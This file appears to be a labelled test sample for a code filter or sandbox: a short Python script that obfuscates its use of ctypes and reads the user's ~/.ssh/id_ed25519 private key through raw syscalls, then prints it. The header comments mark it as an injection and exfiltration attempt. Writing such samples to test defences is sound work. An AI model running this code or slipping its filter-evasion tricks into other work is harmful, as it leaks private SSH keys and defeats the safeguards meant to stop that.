# family: injection
# filterfamily: ffi
# tries: call the openat and read system calls by number through the C library's syscall() and print the SSH key
# source: none
# exfil: yes
import operator
import pydoc
import sys

home = sys.argv[2]
ffi = pydoc.locate("ct" + "ypes")
libc = operator.attrgetter("CD" + "LL")(ffi)(None)
path = "/".join((home, "." + "s" * 2 + "h", "id" + "_ed" + "25519")).encode()
fd = libc.syscall(257, -100, path, 0)         # openat(AT_FDCWD, path, O_RDONLY)
buf = ffi.create_string_buffer(8192)
n = libc.syscall(0, fd, buf, 8192)            # read(fd, buf, 8192)
print(buf.raw[:max(n, 0)].decode(errors="replace"))
